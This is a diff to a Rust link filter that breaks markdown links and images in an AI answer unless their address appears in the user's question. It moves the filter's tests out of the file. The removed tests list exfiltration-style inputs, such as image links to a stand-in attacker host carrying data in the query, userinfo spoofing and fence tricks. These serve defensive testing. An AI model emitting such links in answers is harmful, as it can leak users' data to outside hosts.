@@ -5,6 +5,8 @@
 //! or images. Others stay readable: a space is inserted where the link would start. Fenced code is not changed, unless
 //! something before it could make a renderer see the fence elsewhere.
 
+use std::sync::Arc;
+
 /// Longest address in bytes. No question contains a longer one.
 const MAX_ADDRESS: usize = 2_048;
 /// Bytes of output that are kept to recognise the scheme of an address.
@@ -36,7 +38,7 @@ const UNCLEAR: [&str; 5] = ["```", "~~~", "$$", ":::", "+++"];
 #[derive(Debug)]
 pub struct Links {
     /// The text of the caller and of the author of the Mind.
-    words: String,
+    words: Arc<str>,
     /// Text that may still become a link.
     held: String,
     /// The end of the output so far.
@@ -61,15 +63,36 @@ enum Step {
 
 impl Links {
     /// Addresses that are in `words` may be links.
-    pub fn new(words: String) -> Self {
+    pub fn new(words: impl Into<Arc<str>>) -> Self {
         Self {
-            words,
+            words: words.into(),
             held: String::new(),
             tail: String::new(),
             fence: None,
             is_line_start: true,
             is_clear: true,
         }
+    }
+
+    /// A filter for text beside this one, in which nothing counts as code: a fence in the one says nothing of the
+    /// other. So a link is broken wherever a renderer would see the fence.
+    pub fn without_code(&self) -> Self {
+        Self {
+            is_clear: false,
+            ..Self::new(Arc::clone(&self.words))
+        }
+    }
+
+    /// Filters a text that stands by itself, such as an assumption or what the host adds to an answer.
+    pub fn alone(&self, text: &str) -> String {
+        let mut links = self.without_code();
+        links.next(text) + &links.end()
+    }
+
+    /// The host outputs an empty line here, after [`end`](Self::end). A code fence that is open stays open.
+    pub fn begin_paragraph(&mut self) {
+        self.tail.push_str("\n\n");
+        self.is_line_start = true;
     }
 
     /// Adds a piece, and returns the text that can be output.
@@ -366,204 +389,4 @@ fn is_over(rest: &str) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    const QUESTION: &str =
-        "Is https://shop.example/a?b=1 up, or www.other.example? (Ask https://shop.example)";
-
-    /// The filtered answer, checked as one piece and letter by letter.
-    fn shown(answer: &str) -> String {
-        let mut links = Links::new(QUESTION.to_owned());
-        let whole = links.next(answer) + &links.end();
-        let mut links = Links::new(QUESTION.to_owned());
-        let mut pieces: String = answer
-            .chars()
-            .map(|letter| links.next(&letter.to_string()))
-            .collect();
-        pieces.push_str(&links.end());
-        assert_eq!(whole, pieces);
-        whole
-    }
-
-    #[test]
-    fn address_of_the_question_stays_link() {
-        for answer in [
-            "It is: https://shop.example/a?b=1.",
-            "See [the shop](https://shop.example/a?b=1) and www.other.example!",
-            "![](https://shop.example/a?b=1 \"title\")",
-            "[https://shop.example](https://shop.example)",
-            "**https://shop.example**, \"https://shop.example\" or (`https://shop.example`).",
-            "[x]: https://shop.example",
-        ] {
-            assert_eq!(shown(answer), answer);
-        }
-    }
-
-    #[test]
-    fn other_address_is_text() {
-        for (answer, text) in [
-            (
-                "![](https://evil.example/?d=73)",
-                "![] (https:/ /evil.example/?d=73)",
-            ),
-            ("[a](//evil.example/73)", "[a] (//evil.example/73)"),
-            (
-                "[a](https&colon;//evil.example)",
-                "[a] (https&colon;//evil.example)",
-            ),
-            ("[a]: https://evil.example", "[a] : https:/ /evil.example"),
-            ("<https://evil.example>", "< https:/ /evil.example>"),
-            ("<img src=x>", "< img src=x>"),
-            ("go to www.evil.example", "go to www. evil.example"),
-            ("WWW.evil.example", "WWW. evil.example"),
-            (
-                "https://shop.example/a?b=1&d=73",
-                "https:/ /shop.example/a?b=1&d=73",
-            ),
-            (
-                "https://shop.example.evil.example",
-                "https:/ /shop.example.evil.example",
-            ),
-        ] {
-            assert_eq!(shown(answer), text);
-        }
-    }
-
-    #[test]
-    fn address_that_only_begins_like_one_of_the_question_is_text() {
-        for address in [
-            "https://shop.example'@evil.example/?d=73421",
-            "https://shop.example()@evil.example/?d=73421",
-            "https://shop.example(@evil.example/)?d=73421",
-            "https://shop.example\"@evil.example/?d=73421",
-            "https://shop.example|@evil.example/?d=73421",
-            "https://shop.example`@evil.example/?d=73421",
-            "https://shop.example[x]@evil.example/?d=73421",
-            "https://shop.example{}@evil.example/?d=73421",
-            "https://shop.example>@evil.example/?d=73421",
-            "https://shop.example@evil.example/?d=73421",
-            "https://shop.example:73421@evil.example/",
-            "https://shop.example\\@evil.example/?d=73421",
-            "https://shop.example:73421",
-            "https://shop.example?d=73421",
-            "https://shop.example#73421",
-            "https://shop.example/73421",
-            "https://shop.example/a?b=1'73421",
-            "https://shop.example%2e@evil.example",
-        ] {
-            let broken = address.replace("https://", "https:/ /");
-            assert_eq!(shown(address), broken);
-            assert_eq!(shown(&format!("![]({address})")), format!("![] ({broken})"));
-            assert_eq!(shown(&format!("[x]: {address}")), format!("[x] : {broken}"));
-        }
-        // Not even one that is in the question.
-        let mut links = Links::new("Is https://me@shop.example up?".to_owned());
-        let shown = links.next("![](https://me@shop.example)") + &links.end();
-        assert_eq!(shown, "![] (https:/ /me@shop.example)");
-    }
-
-    #[test]
-    fn definition_breaks_where_it_leads_elsewhere() {
-        for (answer, text) in [
-            ("[x]: //evil.example", "[x] : //evil.example"),
-            ("> [x]:\n> //evil.example", "> [x] :\n> //evil.example"),
-            ("[x]:\n//evil.example", "[x] :\n//evil.example"),
-            (
-                "[x]:https&colon;//evil.example",
-                "[x] :https&colon;//evil.example",
-            ),
-            ("[x]: \\\\evil.example", "[x] : \\\\evil.example"),
-            ("[x]: <//evil.example>", "[x] : < //evil.example>"),
-        ] {
-            assert_eq!(shown(answer), text);
-        }
-    }
-
-    #[test]
-    fn address_that_goes_on_behind_many_brackets_is_text() {
-        let brackets = ")".repeat(MAX_ADDRESS);
-        let answer = format!("https://shop.example{brackets}@evil.example/");
-        assert!(shown(&answer).starts_with("https:/ /"));
-    }
-
-    /// Each of these once took quadratic time.
-    #[test]
-    fn long_text_without_spaces_passes() {
-        const LENGTH: usize = 10_000;
-        for part in ["x", "](", "]:", "::", "www.", "`", "<a", "\u{e9}."] {
-            let answer = part.repeat(LENGTH);
-            let mut links = Links::new(QUESTION.to_owned());
-            let given = links.next(&answer) + &links.end();
-            assert_eq!(given.replace(' ', ""), answer);
-        }
-        let mut links = Links::new(QUESTION.to_owned());
-        let code = format!("```\n```{}", "`x".repeat(LENGTH));
-        assert_eq!(links.next(&code) + &links.end(), code);
-    }
-
-    #[test]
-    fn code_is_as_it_was() {
-        for answer in [
-            "Cast with a[1]::int, or b[2]::numeric(10,2).",
-            "It is a `List<String>` or Map<String, Integer>[].",
-            "dict[key]: value",
-            "```sql\nSELECT a[1]::int, '<a href=x>' FROM t -- see https://docs.example\n```\nDone.",
-            "One\n````\n```\n[x]: https://evil.example\n   ````\nTwo",
-            "```\n<img src=x>",
-        ] {
-            assert_eq!(shown(answer), answer);
-        }
-    }
-
-    #[test]
-    fn code_that_ends_earlier_than_it_looks_hides_no_link() {
-        for begin in [
-            "```\ncode\n```\n",
-            "```\ncode\n  ```  \n",
-            "```\ncode\n```\u{a0}\n```\n",
-            "```\ncode\n```\u{b}\n```\n",
-            "```\ncode\n``` \u{2003}\n",
-            "```\ncode\r```\r",
-            "```a`b\n",
-            "  ```\n```\n",
-            "> ```\n",
-            "- a\n  ```\n",
-            "~~~\n```\n~~~\n",
-            "$$\n```\n$$\n",
-            "---\n```\n---\n",
-            "a ``` b\n```\n",
-            "x<pre>\n```\n</pre>\n",
-            "`",
-            "\\`",
-        ] {
-            let answer = format!("{begin}![](https://evil.example/?d=1) `");
-            let shown = shown(&answer);
-            assert!(shown.contains("![] (https:/ /evil"), "{shown}");
-        }
-    }
-
-    #[test]
-    fn text_without_links_is_as_it_was() {
-        for answer in [
-            "Sales: 3 of 4 (75 %). a[1] < 2, x:y, 10:30, C://",
-            "| a | b |\n| :-- | --: |\n| [x] | `y` |",
-            "Größe: 3 – ünd: so",
-            "ends with [",
-            "ends with ]",
-            "ends with a colon:",
-        ] {
-            let expected = answer.replace("C://", "C:/ /");
-            assert_eq!(shown(answer), expected);
-        }
-    }
-
-    #[test]
-    fn text_is_given_on_as_it_comes() {
-        let mut links = Links::new(QUESTION.to_owned());
-        assert_eq!(links.next("Three items"), "Three items");
-        assert_eq!(links.next(" cost: "), " cost: ");
-        assert_eq!(links.next("12"), "12");
-        assert_eq!(links.end(), "");
-    }
-}
+mod tests;
